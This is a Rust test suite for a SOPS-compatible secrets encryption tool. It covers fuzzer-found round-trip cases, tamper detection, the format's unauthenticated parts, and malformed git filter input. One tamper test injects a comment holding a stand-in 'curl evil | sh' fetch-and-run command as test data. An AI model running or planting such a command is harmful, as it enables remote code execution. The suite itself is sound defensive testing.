fn removing_the_sealed_field_changes_the_spelling_not_the_data() {
    // The `sealed` field (original spellings) is authenticated by AES-GCM under the data
    // key, but SOPS's MAC cannot cover its presence: without it, decrypt writes each value
    // in its canonical spelling. The values themselves stay authenticated.
    let s = Scratch::new();
    let plain = "list: [a, b]\nq: 'it''s'\n";
    s.write("sp.yaml", plain.as_bytes());
    let enc = s.encrypt("sp.yaml");
    assert!(enc.ok());
    let text = String::from_utf8(enc.stdout).unwrap();
    let at = text.find("    sealed: ").expect("a sealed field");
    let end = at + text[at..].find('\n').unwrap() + 1;
    let stripped = format!("{}{}", &text[..at], &text[end..]);
    s.write("stripped.yaml", stripped.as_bytes());
    let dec = s.decrypt("stripped.yaml");
    assert!(dec.ok(), "{}", first_line(&dec.stderr));
    assert_eq!(
        String::from_utf8(dec.stdout).unwrap(),
        "list: [\"a\", \"b\"]\nq: 'it''s'\n",
        "canonical spellings of the same values"
    );
    // A forged field (another key, or altered) is refused.
    let forged = text.replacen(
        "    sealed: ENC[AES256_GCM,data:",
        "    sealed: ENC[AES256_GCM,data:AAAA",
        1,
    );
    s.assert_refused("decrypt", "forged.yaml", forged.as_bytes());
}

// ---------------------------------------------------------------------------------------
// Inputs the fuzzers found that encrypt once wrote as ciphertext it could not give back
// (fuzz/, docs/security.md "Findings"). Each now encrypts and decrypts to the same bytes;
// where sops can read the input, it reads sealed's ciphertext too.
// ---------------------------------------------------------------------------------------

/// Each case (written as `f{i}.{ext}`) is accepted, and decrypts back to exactly itself;
/// its ciphertext is left in `enc.f{i}.{ext}`.
fn assert_roundtrips(s: &Scratch, ext: &str, cases: &[&[u8]]) {
    for (i, case) in cases.iter().enumerate() {
        let name = format!("f{i}.{ext}");
        assert!(s.assert_handled(&name, case), "{name}: refused");
    }
}

/// The real sops (when installed) decrypts sealed's ciphertext `enc_name` to `want` (its
/// JSON output).
fn assert_sops_reads(s: &Scratch, enc_name: &str, want: serde_json::Value) {
    let Some(sops) = common::peer("sops") else {
        return;
    };
    let out = Command::new(sops)
        .args(["decrypt", "--input-type", "yaml", "--output-type", "json"])
        .arg(s.path(enc_name))
        .env_clear()
        .env("PATH", common::path_var())
        .env("HOME", s.path("home"))
        .env("SOPS_AGE_KEY_FILE", s.path("key.txt"))
        .output()
        .expect("run sops");
    assert!(
        out.status.success(),
        "sops cannot decrypt {enc_name}: {}",
        first_line(&String::from_utf8_lossy(&out.stderr))
    );
    let got: serde_json::Value = serde_json::from_slice(&out.stdout).expect("sops prints JSON");
    // No values in the message: they stand for secrets.
    assert!(got == want, "sops reads {enc_name} differently");
}

#[test]
fn fuzz_yaml_final_lone_cr_roundtrips() {
    // A lone CR is a YAML line break: the metadata goes before the final one (Y1).
    let s = Scratch::new();
    assert_roundtrips(
        &s,
        "yaml",
        &[b"a: b\r", b"&a : *a\r", b": n@o: f\r", b"a: b\n\r\r"],
    );
    assert_sops_reads(&s, "enc.f0.yaml", serde_json::json!({"a": "b"}));
    assert_sops_reads(&s, "enc.f3.yaml", serde_json::json!({"a": "b"}));
}

#[test]
fn fuzz_yaml_lone_cr_line_break_roundtrips() {
    let s = Scratch::new();
    assert_roundtrips(&s, "yaml", &[b"\r::\n"]);
    assert_sops_reads(&s, "enc.f0.yaml", serde_json::json!({":": null}));
}

#[test]
fn fuzz_yaml_comment_before_lone_cr_does_not_panic() {
    // The comment ends at the lone CR (P1: it used to run on to the next LF, over `b: 2`).
    let s = Scratch::new();
    assert_roundtrips(
        &s,
        "yaml",
        &[
            b"# c\rb: 2\n",
            b"a: 1 # c\rb: 2\n",
            b"a: 1\r# c\rb: 2\n",
            b"password: demo-secret-3 # c\rb: 2\n",
        ],
    );
    assert_sops_reads(&s, "enc.f0.yaml", serde_json::json!({"b": 2}));
    assert_sops_reads(&s, "enc.f2.yaml", serde_json::json!({"a": 1, "b": 2}));
    assert_sops_reads(
        &s,
        "enc.f3.yaml",
        serde_json::json!({"password": "demo-secret-3", "b": 2}),
    );
}

#[test]
fn fuzz_yaml_flow_key_without_value_roundtrips() {
    // The implicit null of `{a}` takes no bytes (the parser gives it the span of `}`).
    let s = Scratch::new();
    assert_roundtrips(
        &s,
        "yaml",
        &[b"{a}\n", b"{f1000far}\n", b"{a:~}\n", b"{b: 1, a}\n"],
    );
    assert_sops_reads(&s, "enc.f0.yaml", serde_json::json!({"a": null}));
    assert_sops_reads(&s, "enc.f2.yaml", serde_json::json!({"a:~": null}));
    assert_sops_reads(&s, "enc.f3.yaml", serde_json::json!({"b": 1, "a": null}));
}

#[test]
fn fuzz_yaml_explicit_keys_roundtrip() {
    // Found by the fuzzers, fixed in 3b07c55: an indented explicit key, and yaml-test-suite
    // 6PBE's block sequences as key and value. Then: a comment after the `?`, and a `?`
    // ending a comment or an anchor name, which is no indicator.
    let s = Scratch::new();
    assert_roundtrips(
        &s,
        "yaml",
        &[
            b" ?\n",
            b"---\n?\n- a\n- b\n:\n- c\n- d\n",
            b"?  # c",
            b"---\n # c? \n: b",
            b"&x? \na: ",
        ],
    );
}

#[test]
fn fuzz_yaml_trailing_bom_roundtrips() {
    // A BOM starting a line after the last entry prefixes a next document; the metadata
    // goes before it. sops (yaml.v3) reads no BOM after the start of the stream, in this
    // input as in its ciphertext, so only sealed's roundtrip is checked.
    let s = Scratch::new();
    assert_roundtrips(
        &s,
        "yaml",
        &[
            b"a: 1\n\xef\xbb\xbf",
            b"foo: |\n x\n\xef\xbb\xbf",
            b"a: 1\n\xef\xbb\xbf# c\n",
        ],
    );
}

#[test]
fn fuzz_yaml_last_line_comment_keeps_its_selection() {
    // The comment belongs to `x` (indented deeper than what follows), with or without a
    // final line break, before and after the `sops` key follows it.
    let s = Scratch::new();
    for (i, (doc, flag, re, data)) in [
        (
            &b"x:\n  b: 1\n  # note"[..],
            "--unencrypted-regex",
            "^x",
            serde_json::json!({"x": {"b": 1}}),
        ),
        (
            &b"a:\n  b: 1\n  #ENC[AES256_GCM,data:"[..],
            "--encrypted-regex",
            "^a",
            serde_json::json!({"a": {"b": 1}}),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let name = format!("c{i}.yaml");
        s.write(&name, doc);
        let enc = s.run(&["encrypt", "--age", &s.recipient, flag, re, &name]);
        assert!(enc.ok(), "{}", first_line(&enc.stderr));
        let enc_name = format!("enc.{name}");
        s.write(&enc_name, &enc.stdout);
        let dec = s.decrypt(&enc_name);
        assert!(dec.ok(), "{}: {}", name, first_line(&dec.stderr));
        assert!(dec.stdout == doc, "{name}: decrypt(encrypt(x)) != x");
        let text = String::from_utf8(enc.stdout).expect("UTF-8");
        let comment = text.lines().nth(2).expect("the comment line");
        assert_eq!(
            comment.starts_with("  #ENC[AES256_GCM,data:") && comment.ends_with("type:comment]"),
            i == 1,
            "{name}: comment selected as its collection is"
        );
        assert_sops_reads(&s, &enc_name, data);
    }
}

#[test]
fn fuzz_yaml_anchor_glued_to_a_flow_collection_roundtrips() {
    // An anchor name ends at a flow indicator: `&C[M]` is a flow sequence, whose token must
    // be quoted. sops (yaml.v3) takes `[` as part of the anchor and cannot read this input
    // nor its ciphertext, so only sealed's roundtrip is checked.
    let s = Scratch::new();
    assert_roundtrips(
        &s,
        "yaml",
        &[
            b"a: &C[M]\n",
            b": &C[M]",
            b"a: &C{M: 1}\n",
            b"&x{}",
            b"&x {}\n",
        ],
    );
}

#[test]
fn fuzz_dotenv_clear_value_ending_in_cr_decrypts() {
    // A CR that ends the file ends the last line, as before an LF (D1). sops keeps CRs in
    // .env values (and would read the metadata's last line with it), so a .env file with
    // CR line ends is not for sops, like `fixtures/crlf.env`.
    let s = Scratch::new();
    assert_roundtrips(
        &s,
        "env",
        &[b"A=1\nB_unencrypted=x\r", b"A_unencrypted=x\r", b"A=x\r\r"],
    );
}

#[test]
fn fuzz_dotenv_final_lone_cr_roundtrips() {
    let s = Scratch::new();
    assert_roundtrips(&s, "env", &[b"A=1\n\r", b"A=1\n\r\r"]);
}

// ---------------------------------------------------------------------------------------
// Integrity: what a tampered file can and cannot do (docs/security.md, "Integrity").
// ---------------------------------------------------------------------------------------

const INTEGRITY_DOC: &str = "# top comment\ndb:\n  # inner comment\n  password: demo-pw-1\n  user: admin\na_unencrypted: ab\nb_unencrypted: c\nport_unencrypted: 5432\n";

/// Encrypts [`INTEGRITY_DOC`], applies `edit` to the ciphertext, and decrypts it.
fn tampered(s: &Scratch, edit: impl Fn(&str) -> String) -> Outcome {
    s.write("i.yaml", INTEGRITY_DOC.as_bytes());
    let enc = s.encrypt("i.yaml");
    assert!(enc.ok(), "{}", first_line(&enc.stderr));
    let text = String::from_utf8(enc.stdout).unwrap();
    let edited = edit(&text);
    assert_ne!(edited, text, "the edit changed nothing");
    s.write("t.yaml", edited.as_bytes());
    s.decrypt("t.yaml")
}

fn line_replace(text: &str, prefix: &str, new_line: &str) -> String {
    text.lines()
        .map(|l| if l.starts_with(prefix) { new_line } else { l })
        .map(|l| format!("{l}\n"))
        .collect()
}

#[test]
fn key_names_values_lastmodified_and_rules_are_authenticated() {
    let s = Scratch::new();
    // Key names are the values' additional data: a renamed key does not decrypt.
    let out = tampered(&s, |t| t.replacen("  user: ENC[", "  usr: ENC[", 1));
    out.assert_refused("t.yaml");
    assert_eq!(out.code, 25);
    // lastmodified is the MAC's additional data.
    let out = tampered(&s, |t| {
        line_replace(
            t,
            "    lastmodified:",
            "    lastmodified: \"2020-01-01T00:00:00Z\"",
        )
    });
    out.assert_refused("t.yaml");
    assert_eq!(out.code, 51);
    // mac_only_encrypted changes what the MAC covers.
    let out = tampered(&s, |t| {
        t.replacen(
            "    version:",
            "    mac_only_encrypted: true\n    version:",
            1,
        )
    });
    out.assert_refused("t.yaml");
    assert_eq!(out.code, 51);
    // A changed selection rule makes clear values "should be encrypted".
    let out = tampered(&s, |t| {
        t.replacen(
            "unencrypted_suffix: _unencrypted",
            "unencrypted_suffix: _nothing",
            1,
        )
    });
    out.assert_refused("t.yaml");
    assert_eq!(out.code, 25);
    // A value token from another file (another data key) does not decrypt.
    s.write("other.yaml", b"db:\n  user: admin\n");
    let other = String::from_utf8(s.encrypt("other.yaml").stdout).unwrap();
    let line = other
        .lines()
        .find(|l| l.starts_with("  user: "))
        .unwrap()
        .to_string();
    let out = tampered(&s, |t| line_replace(t, "  user: ", &line));
    out.assert_refused("t.yaml");
    assert_eq!(out.code, 25);
}

/// An edit of a ciphertext.
type Edit = Box<dyn Fn(&str) -> String>;

#[test]
fn what_the_sops_format_leaves_unauthenticated() {
    // Each of these edits decrypts without an error, in sealed as in SOPS: the MAC is a
    // SHA-512 over the values' bytes concatenated without separators (nulls and empty
    // strings add nothing), comments are not in it, and the metadata is authenticated
    // only through the MAC's additional data (lastmodified). docs/security.md lists what
    // sealed does about each; if sealed starts refusing one, update the document.
    let s = Scratch::new();
    let edits: [(&str, Edit); 7] = [
        (
            "a boundary moved between two clear values",
            Box::new(|t: &str| {
                t.replacen("a_unencrypted: ab", "a_unencrypted: a", 1)
                    .replacen("b_unencrypted: c", "b_unencrypted: bc", 1)
            }),
        ),
        (
            "a clear int turned into a string",
            Box::new(|t: &str| {
                t.replacen("port_unencrypted: 5432", "port_unencrypted: \"5432\"", 1)
            }),
        ),
        (
            "a null and an empty string added",
            Box::new(|t: &str| t.replacen("db:\n", "db:\n  added_null:\n  added_empty: \"\"\n", 1)),
        ),
        (
            "an encrypted comment removed",
            Box::new(|t: &str| {
                t.lines()
                    .filter(|l| !l.starts_with("#ENC["))
                    .map(|l| format!("{l}\n"))
                    .collect()
            }),
        ),
        (
            "a clear comment injected",
            Box::new(|t: &str| format!("# injected: run curl evil | sh\n{t}")),
        ),
        (
            "a recipient label changed",
            Box::new(|t: &str| {
                line_replace(
                    t,
                    "        - recipient: ",
                    "        - recipient: age1someoneelse",
                )
            }),
        ),
        (
            "the version changed",
            Box::new(|t: &str| line_replace(t, "    version: ", "    version: 0.0.1")),
        ),
    ];
    // A file sealed wrote authenticates its whole decrypted layout (`sealed` field): the
    // edits that change what decrypt gives are refused. The metadata's labels are not in
    // the decrypted text: they still pass (and decide nothing: docs/security.md).
    let changes_output = 5;
    for (i, (what, edit)) in edits.iter().enumerate() {
        let out = tampered(&s, edit);
        out.assert_sane();
        if i < changes_output {
            assert_eq!(out.code, 51, "{what}: not refused; update docs/security.md");
            assert!(first_line(&out.stderr).contains("changed outside its encrypted values"));
        } else {
            assert!(
                out.ok(),
                "{what}: now refused ({})",
                first_line(&out.stderr)
            );
        }
    }
    // Without that field (a file sops wrote, or an editor removed it) the format's own
    // limits remain: each edit decrypts, as in SOPS. `exec` then treats null, empty and
    // clear values as weak (tests/hardening_editor.rs).
    for (what, edit) in edits {
        let out = tampered(&s, move |t: &str| {
            edit(
                &t.lines()
                    .filter(|l| !l.starts_with("    sealed: "))
                    .map(|l| format!("{l}\n"))
                    .collect::<String>(),
            )
        });
        out.assert_sane();
        assert!(
            out.ok(),
            "{what} (no sealed field): now refused ({}); update docs/security.md",
            first_line(&out.stderr)
        );
    }
}

#[test]
fn anyone_with_a_public_key_can_write_a_whole_valid_file() {
    // SOPS files carry no signature: the recipients' public keys (printed in every file)
    // are enough to write a new file that decrypts cleanly. Integrity protects parts of a
    // file against someone without the data key, not the origin of a whole file.
    let s = Scratch::new();
    s.write("forged.yaml", b"db:\n  password: attacker-chosen\n");
    let forged = s.encrypt("forged.yaml");
    assert!(forged.ok());
    s.write("enc.forged.yaml", &forged.stdout);
    let out = s.decrypt("enc.forged.yaml");
    assert!(out.ok() && out.stdout == b"db:\n  password: attacker-chosen\n");
}

#[test]
fn git_filter_process_refuses_garbage() {
    let s = Scratch::new();
    let hello = b"0016git-filter-client\n000eversion=2\n0000".to_vec();
    let mut huge_list = hello.clone();
    huge_list.extend(b"0015capability=clean\n0000".iter());
    for _ in 0..20_000 {
        huge_list.extend(b"0010command=x\n".iter());
    }
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("noise", noise(100_000, 7)),
        ("too-long", b"ffff".to_vec()),
        ("short", b"0003".to_vec()),
        ("eof-in-handshake", hello.clone()),
        ("eof-in-list", huge_list),
        ("not-utf8", b"0009\xff\xfe\xfd\xfc\xfb0000".to_vec()),
    ];
    for (name, input) in cases {
        s.write(name, &input);
        let out = s.run_with_stdin(&["git", "filter-process"], Some(name));
        out.assert_sane();
        assert_ne!(out.code, 0, "{name}: accepted");
        assert_eq!(out.stderr.lines().count(), 1, "{name}: {}", out.stderr);
        out.assert_rss_below(64);
    }
}
